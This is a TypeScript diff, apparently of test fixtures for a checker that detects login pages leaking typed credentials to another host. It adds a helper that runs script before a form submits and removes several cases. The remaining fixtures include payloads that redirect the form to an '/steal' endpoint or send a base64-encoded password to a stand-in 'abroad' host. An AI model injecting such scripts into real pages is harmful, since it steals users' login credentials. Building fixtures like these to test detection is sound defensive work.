@@ -36,6 +36,12 @@ export function pagesWith(alter: Alter, abroad: () => string, instead: Instead =
   })
 }
 
+/** Runs a script with what was typed before the form is sent. */
+export const sending = (script: string) =>
+  submit(
+    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
+  )
+
 /** Ways of a page to lead what is typed to another host, and what is said of it. */
 export const WAYS: readonly (readonly [
   what: string,
@@ -49,16 +55,6 @@ export const WAYS: readonly (readonly [
     'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
   ],
   [
-    'a form that goes there once it is sent',
-    (html, abroad) => submit(`document.forms[0].action = '${abroad}/steal'`)(html),
-    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
-  ],
-  [
-    'a page that goes there once its field has the focus',
-    (html, abroad) => focus(`location.href = '${abroad}/next'`)(html),
-    'GET ABROAD was not sent from the page at OWN',
-  ],
-  [
     'a form that is sent on there',
     (html) => html,
     'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
@@ -70,11 +66,6 @@ export const WAYS: readonly (readonly [
       submit(
         `event.preventDefault(); location.href = '${abroad}/next?x=' + encodeURIComponent(btoa('nadia:' + pw))`,
       )(html),
-    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
-  ],
-  [
-    'a pop-up',
-    (html, abroad) => submit(`event.preventDefault(); window.open('${abroad}/next?x=' + pw)`)(html),
     'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
   ],
   [
